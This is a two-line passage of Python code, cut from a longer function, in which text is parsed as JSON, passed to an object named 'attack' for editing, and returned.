        text = attack.edit(json.loads(text))
    return text
